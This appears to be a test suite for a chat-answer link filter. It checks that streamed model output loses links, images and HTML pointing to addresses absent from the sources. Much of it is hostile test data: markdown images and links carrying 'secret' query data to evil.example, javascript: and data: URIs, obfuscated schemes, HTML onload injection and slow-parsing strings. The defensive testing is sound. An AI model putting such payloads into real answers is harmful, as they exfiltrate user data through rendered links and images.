import fc from 'fast-check';
import { expect, test } from 'vitest';
import { LinkFilter, createAddressCheck } from '../../../../src/stages/chat/guard/link-filter.ts';

const PLACES = ['https://docs.example/manual', 'manuals/pump.md'];
const SOURCES = [
  'See [the shop](https://shop.example/parts?id=7&lang=en) or www.example.org, and ![drawing](img/pump.png).\nMail to help@example.org.',
];

function filtered(pieces: readonly string[], texts = SOURCES) {
  const filter = new LinkFilter(createAddressCheck(texts, PLACES));
  const shown = pieces.map((piece) => filter.push(piece)).join('') + filter.end();
  return { shown, removed: filter.removed };
}

test.each([
  'Plain words, a < b > c, and (this) [too] [1]. Really!',
  'See [the manual](https://docs.example/manual) [1].',
  'See [the manual](https://docs.example/manual#cleaning "Cleaning").',
  'The [shop](https://shop.example/parts?id=7&lang=en) has it.',
  'Go to https://docs.example/manual. Or (https://docs.example/manual/)!',
  'Ask www.example.org or <https://docs.example/manual>.',
  '详见https://docs.example/manual。',
  'The drawing ![drawing](img/pump.png), the page [pump](manuals/pump.md).',
  '[shop]: https://shop.example/parts?id=7&lang=en\nand [shop][shop]',
  'A list: `handlers[name](event)`, `Array<string>`, `x[0](y)`, <b>bold</b><br>',
  '```ts\nconst all = table[key](value); // note\nif (a<b && c==d && e>f) go();\n```',
  '| a | b |\n|---|---|\n| [1] | 2 |',
  '[1]: Manual, page 4\n[2]: the other one',
  '- [ ] open\n- [x] done',
  'unclosed [bracket and (parenthesis',
  'https: the scheme, and/or http://',
])('keeps text without foreign addresses: %s', (text) => {
  const kept = text === 'https: the scheme, and/or http://' ? 'https: the scheme, and/or …' : text;
  expect(filtered([text]).shown).toBe(kept);
});

test.each([
  ['Click [here](https://evil.example/?q=secret) now.', 'Click here now.', 1],
  ['![logo](https://evil.example/p.png?d=secret)', 'logo', 1],
  ['![](https://evil.example/p.png)', '…', 1],
  ['[![alt](https://evil.example/a.png)](https://evil.example/b)', 'alt', 2],
  ['[a [b] c](https://evil.example)', 'a [b] c', 1],
  ['So it is [1](https://evil.example).', 'So it is [1].', 1],
  ['[x](<https://evil.example/a b>) y', 'x y', 1],
  ['[x](https://evil.example/a(b)c "title") y', 'x y', 1],
  ['[x](  https://evil.example\n) y', 'x y', 1],
  ['[x](javascript:alert(1)) y', 'x y', 1],
  ['[x](data:text/html;base64,AAAA) y', 'x y', 1],
  ['[x](//evil.example/a) y', 'x y', 1],
  ['[x](\\\\evil.example\\a) y', 'x y', 1],
  ['[x](/api/delete?id=1) y', 'x y', 1],
  ['[x](other.md) y', 'x y', 1],
  ['[x](&#104;ttps&colon;//evil.example) y', 'x y', 1],
  ['[x](https&colon;&sol;&sol;evil&period;example&quest;d&equals;1) y', 'x y', 1],
  ['[x](https\\://evil.example) y', 'x y', 1],
  ['[x](https://docs.example/manual?leak=secret) y', 'x y', 1],
  ['[x](https://docs.example/manual.evil.example) y', 'x y', 1],
  ['[x](https://docs.example/manualsecret) y', 'x y', 1],
  ['See https://evil.example/a?b=c, please.', 'See …, please.', 1],
  ['See HTTPS://evil.example and www.evil.example/x.', 'See … and ….', 2],
  ['See <https://evil.example/a>.', 'See ….', 1],
  ['Write to <mailto:me@evil.example>.', 'Write to me@evil.example.', 1],
  ['ftp://evil.example/x and vscode://run', '… and …', 2],
  ['[a]: https://evil.example\n[a]', 'a:\n[a]', 1],
  ['> [a]: <https://evil.example>\n\n[b][a]', '> a:\n\n[b][a]', 1],
  ['[a]:\n  //evil.example', 'a:', 1],
  ['<img src="https://evil.example/x.png"> text', ' text', 1],
  ['<a href=//evil.example>click</a>', 'click', 1],
  ["<IMG\nSRC='https://evil.example'/>done", 'done', 1],
  ['<script>go()</script>', 'go()', 1],
  ['<svg onload=go()>', '', 1],
  ['<b style="background:url(//evil.example)">b</b>', 'b</b>', 1],
  ['<!--><img src=https://evil.example>-->', '<!-->-->', 1],
  ['`![x](https://evil.example)`', '`x`', 1],
  ['```\n![x](https://evil.example)\n```', '```\nx\n```', 1],
  ['` stray ![x](https://evil.example/y)', '` stray x', 1],
])('reduces unknown addresses: %j', (text, shown, removed) => {
  expect(filtered([text])).toEqual({ shown, removed });
});

test('removed parts do not combine into an address', () => {
  for (const text of [
    'h[](https://a.b)ttps://evil.example/x',
    '[https](javascript:x)://evil.example/x',
    'https:[](javascript:x)//evil.example/x',
    'ww<img src=x>w.evil.example',
    'ww[w](javascript:x).evil.example',
    '[ww](javascript:x)w.evil.example',
    '[a[b](javascript:x)](https://evil.example)',
    '[x][9](https://evil.example)',
    '[x]<i style=a>(https://evil.example)',
    '[x](javas<i style=a>cript:alert)',
    '[x]<i style=a>(javascript:alert(1))',
    '<<i style=a>img src=//evil.example>',
    '!<i style=a>[x](other.png)',
  ]) {
    const { shown } = filtered([text]);
    expect(shown).not.toMatch(/https?:\/\/evil|www\.evil|\]\([^)]*(?:evil|javascript)|<img/);
  }
});

test('does not treat a tag that never ends as a tag', () => {
  expect(filtered(['<img src="https://evil.example/?']).shown).toBe('< img src="…?');
  expect(filtered(['<a title="', 'x'.repeat(1200), '" href=go>y']).shown).toMatch(/^< a title/);
});

test('shows a link text that is too long, but not its address', () => {
  const { shown, removed } = filtered([`[${'word '.repeat(100)}](https://evil.example/x) end`]);
  expect(shown).toBe(`[${'word '.repeat(100)}] end`);
  expect(removed).toBe(1);
});

test('shows words as soon as they cannot be addresses', () => {
  const filter = new LinkFilter(() => false);
  expect(filter.push('The pump ')).toBe('The pump ');
  expect(filter.push('is')).toBe('');
  expect(filter.push(' new [')).toBe('is new ');
  expect(filter.push('1]')).toBe('');
  expect(filter.push('.')).toBe('[1].');
});

const scrap = fc.constantFrom(
  '[',
  ']',
  '(',
  ')',
  '![',
  '](',
  '<',
  '>',
  'https:',
  '//',
  'evil.example',
  '/x',
  'www',
  '.',
  'word',
  ' ',
  '\n',
  '`',
  '"',
  '\\',
  ':',
  '=',
  '[1]',
  '<a href=',
  '<img src="',
  'javascript:',
  'https://docs.example/manual',
  'https://evil.example/x',
  '&colon;',
  '!',
  '//evil.example',
);

/** Asserts that a text made of the scraps comes out the same whole and in pieces. */
function expectSameHoweverCut(texts: fc.Arbitrary<string[]>, { numRuns }: { numRuns: number }): void {
  const cut = texts.chain((scraps) => {
    const text = scraps.join('');
    return fc.tuple(fc.constant(text), fc.array(fc.nat(text.length), { maxLength: 10 }));
  });
  fc.assert(
    fc.property(cut, ([text, places]) => {
      const ends = [0, ...places.toSorted((a, b) => a - b), text.length];
      expect(filtered(ends.slice(1).map((end, i) => text.slice(ends[i], end)))).toEqual(filtered([text]));
    }),
    { numRuns },
  );
}

test('gives the same output however the answer is split', () => {
  expectSameHoweverCut(fc.array(scrap, { maxLength: 30 }), { numRuns: 2000 });
});

test('gives the same output however an answer with long links, tags and words is split', () => {
  const long = fc.constantFrom(
    ' '.repeat(1100),
    'x'.repeat(700),
    '\n',
    ' title',
    'x='.repeat(300),
    ')'.repeat(300),
    '.'.repeat(900),
    '\n \n',
  );
  const edge = fc.constantFrom('<img src="', '<https://', '"', '>', '](', '[x](', '[x]:', ')', ' <');
  expectSameHoweverCut(fc.array(fc.oneof(scrap, edge, long), { maxLength: 14 }), { numRuns: 1000 });
});

test.each([
  ['a link whose title goes on', `[label](https://evil.example "${'word '.repeat(500)}`, `label "${'word '.repeat(500)}`],
  ['a program whose title goes on', `[x](javascript:alert "${'word '.repeat(500)}")`, `x "${'word '.repeat(500)}")`],
  ['a known link whose title goes on', `[x](manuals/pump.md "${'word '.repeat(500)}")`, `[x](manuals/pump.md "${'word '.repeat(500)}")`],
  ['an address that goes on', `https://evil.example/${'x'.repeat(1979)}yz and`, '…yz and'],
  ['a link address that goes on', `[x](javascript:${'x'.repeat(1988)}yz) and`, 'xyz) and'],
  ['blanks before an address', `[x](${' '.repeat(2500)}javascript:alert)`, `x${' '.repeat(501)}javascript:alert)`],
  ['blanks before a definition', `[x]:${' '.repeat(2500)}javascript:alert`, `x:${' '.repeat(501)}javascript:alert`],
  ['a definition that goes on', `[x]: /${'x'.repeat(1997)}yz and`, 'x:yz and'],
  ['words that go on', `[x]:${'语'.repeat(2500)}`, `[x]:${'语'.repeat(2500)}`],
  ['a tag that goes on', `<img alt="${'word '.repeat(300)}" src=x>`, `< img alt="${'word '.repeat(300)}" src=x>`],
  ['a tag with a blank line', '<svg\n\nonload=go()>', '< svg\n\nonload=go()>'],
])('does not wait for markup that is too long, and shows no address of it: %s', (_, text, shown) => {
  expect(filtered([text]).shown).toBe(shown);
  expect(filtered(text.match(/.{1,7}/gs)!).shown).toBe(shown);
});

test('a link without end holds back at most the longest address', () => {
  const filter = new LinkFilter(() => false);
  let [given, most] = [0, 0];
  let shown = '';
  for (const piece of ['[label](https://evil.example "', ...Array.from({ length: 600 }, () => 'long text ')]) {
    given += piece.length;
    shown += filter.push(piece);
    most = Math.max(most, given - shown.length);
  }
  expect(most).toBeLessThan(2100);
});

test('a second address after a removed one is not a link', () => {
  const label = `[${'word '.repeat(100)}]`;
  expect(filtered([`${label}(https://evil.example)(javascript:alert) end`]).shown).toBe(`${label} end`);
  expect(filtered([`${label}:<https://evil.example>javascript:alert end`]).shown).toBe(`${label}: end`);
});

test.each([
  ['an address with many parentheses', `http://${')'.repeat(100_000)}`],
  ['addresses with many parentheses', `http://x${')'.repeat(500)} `.repeat(1500)],
  ['links that do not close', '[x]('.repeat(8000)],
  ['titles that do not close', '[x](a "'.repeat(8000)],
  ['titles of known links that do not close', '[x](manuals/pump.md "'.repeat(4000)],
  ['ends of links that do not close', ']('.repeat(16_000)],
  ['slashes', '/'.repeat(100_000)],
  ['lines of blanks in links', `[x](\n${' '.repeat(90)}`.repeat(3000)],
  ['a tag with many quotes', `<a ${'"'.repeat(100_000)}`],
  ['many tags', '<a '.repeat(25_000)],
  ['a tag with many attributes', `<x ${'a=b/c '.repeat(3000)}">`],
  ['a tag with as many attributes as it may have', `<x ${'a=b/c '.repeat(160)}">`],
])('reads a hostile answer in little time: %s', (_, text) => {
  const before = process.threadCpuUsage();
  filtered([text]);
  const { user, system } = process.threadCpuUsage(before); // in microseconds, of this thread alone: however busy the machine is
  expect((user + system) / 1000).toBeLessThan(2000);
});

test('never shows an absolute address that no source has', () => {
  fc.assert(
    fc.property(fc.array(scrap, { maxLength: 30 }), (scraps) => {
      const { shown } = filtered(scraps);
      expect(shown).not.toMatch(
        /https?:\/\/evil|(?<![\w.-])www\.evil|\]\((?!\s*?\n[^\S\n]*\n)\s*(?:javascript:|\/\/)(?:[^\s()\\]|\\.)*\)|<[a-z][^>]*(?:href=|src=")\s*\/\/evil/, // a blank line ends a link, an escaped parenthesis does not
      );
    }),
    { numRuns: 3000 },
  );
});

const TRACKED =
  'Visit https://shop.example/steal?x=1 now, or https://shop.example/list#prices. ![drawing](img/pump.png) ![plan](https://docs.example/img/a.png)';

test.each([
  ['[more](https://shop.example/steal?x=1)', '[more](https://shop.example/steal?x=1)'],
  ['[more](https://shop.example/steal?x=1#secret-90000)', 'more'],
  ['See https://shop.example/steal?x=1#secret-90000', 'See …'],
  ['[prices](https://shop.example/list#prices)', '[prices](https://shop.example/list#prices)'],
  ['[prices](https://shop.example/list)', '[prices](https://shop.example/list)'],
  ['[prices](https://shop.example/list#other)', 'prices'],
  ['[page](https://docs.example/manual#any-place)', '[page](https://docs.example/manual#any-place)'],
])('allows any fragment only after the address of a source: %s', (given, shown) => {
  expect(filtered([given], [TRACKED]).shown).toBe(shown);
});

test.each([
  ['![x](https://shop.example/steal?x=1)', 'x'],
  ['![x](//shop.example/steal?x=1)', 'x'],
  ['![x](https://docs.example/manual)', '![x](https://docs.example/manual)'],
  ['![drawing](img/pump.png)', '![drawing](img/pump.png)'],
  ['![x][a]\n\n[a]: https://shop.example/steal?x=1', '! [x][a]\n\n[a]: https://shop.example/steal?x=1'],
  ['![a]\n\n[a]: https://shop.example/steal?x=1', '! [a]\n\n[a]: https://shop.example/steal?x=1'],
  [`![${'long '.repeat(100)}](https://shop.example/steal?x=1)`, `! [${'long '.repeat(100)}](https://shop.example/steal?x=1)`],
  ['Five years![1]', 'Five years! [1]'],
  ['![x](https://docs.example/img/a.png)', '![x](https://docs.example/img/a.png)'],
  ['![x](https://docs.example/img/b.png)', 'x'],
  ['[x](https://docs.example/img/a.png#top)', '[x](https://docs.example/img/a.png#top)'],
])('shows an image of another site only if it is a source: %s', (given, shown) => {
  for (const pieces of [[given], [...given]]) expect(filtered(pieces, [TRACKED]).shown).toBe(shown);
});

test.each(['```rust\nlet v = vec![1, 2, 3];\n```', 'Write `if (![1,2].includes(x))` here.'])(
  'keeps an exclamation mark before brackets in code: %j',
  (given) => {
    for (const pieces of [[given], [...given]]) expect(filtered(pieces).shown).toBe(given);
  },
);

test('recognises addresses as written, but not parts of them', () => {
  const isKnown = createAddressCheck(SOURCES, PLACES);
  const known = [
    'https://docs.example/manual',
    'https://docs.example/manual/',
    'http://docs.example/manual',
    'mailto:help@example.org',
    'www.example.org',
    'https://www.example.org',
    'https://shop.example/parts?id=7&amp;lang=en',
  ];
  const unknown = [
    'https://docs.example',
    'https://docs.example/man',
    'https://shop.example/parts?id=7',
    'example.org.evil.example',
    'https://example.o',
    'javascript:alert(1)',
    '',
    '#',
    '/',
  ];
  expect(known.filter((address) => !isKnown(address))).toEqual([]);
  expect(unknown.filter((address) => isKnown(address))).toEqual([]);
  expect(createAddressCheck(['[x](javascript:alert(1))'])('javascript:alert(1)')).toBe(false);
});
